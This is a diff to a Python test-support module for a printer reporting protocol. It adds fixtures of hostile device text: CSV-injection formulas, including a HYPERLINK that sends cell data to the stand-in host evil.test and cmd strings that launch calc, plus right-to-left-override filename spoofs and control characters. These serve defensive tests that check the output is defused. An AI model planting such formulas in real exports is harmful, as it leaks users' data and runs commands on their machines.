@@ -18,6 +18,8 @@ from datetime import UTC, datetime, timedelta
 from email.message import EmailMessage
 from pathlib import Path
 
+import msgspec
+
 from fsm_protocol import chunking, envelope, keys, mime
 from fsm_protocol.crypto import SIGNATURE_BYTES
 from fsm_protocol.schema import Alert, Capabilities, Device, Report, Status, Supply
@@ -317,7 +319,37 @@ def another_customers_serial(victim: Device, attacker: ClientKit, server: Server
     return mails_for(seal(report, attacker, server))[0]
 
 
+#: Text a printer's owner (anyone on the customer's network) can set as model, location, supply
+#: or alert text, which a spreadsheet would run as a formula (OWASP "CSV injection"); signed
+#: reports carrying them must load, and every CSV cell must come out as text.
+FORMULA_TEXTS: tuple[str, ...] = (
+    '=HYPERLINK("http://evil.test/?"&A1,"click me")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+#: Text that displays as something it is not: a right-to-left override shows "gnp.exe" as
+#: "exe.png", a NUL or an ANSI escape reaches a page or a terminal raw. Signed reports
+#: carrying them must load; every page and table must show them defused.
+BIDI_TEXTS: tuple[str, ...] = ("invoice\u202egnp.exe", "\u2066\u202eesrever\u2069 tail", "a\u200fb\u061cc")
+CONTROL_TEXTS: tuple[str, ...] = ("nul\x00byte", "\x1b[31mred\x1b[0m", "bell\x07 and del\x7f")
+
+
+def hostile_text_device(i: int, *, observed_at: datetime, model: str, location: str,
+                        supply: str = "black toner", alert: str = "Toner low") -> Device:
+    """``make_device(i)`` whose model, location, first supply and first alert are hostile text."""
+    d = make_device(i, observed_at=observed_at)
+    supplies = [msgspec.structs.replace(d.supplies[0], description=supply), *d.supplies[1:]]
+    alerts = [msgspec.structs.replace(a, description=alert) for a in d.alerts]
+    return msgspec.structs.replace(d, model=model, location=location, supplies=supplies, alerts=alerts)
+
+
 __all__ = [
+    "BIDI_TEXTS",
+    "CONTROL_TEXTS",
+    "FORMULA_TEXTS",
     "FROM_ADDR",
     "SIGNATURE_BYTES",
     "TO_ADDR",
@@ -325,6 +357,7 @@ __all__ = [
     "ServerKit",
     "another_customers_serial",
     "bad_mails",
+    "hostile_text_device",
     "mails_for",
     "mails_for_raw",
     "make_client",
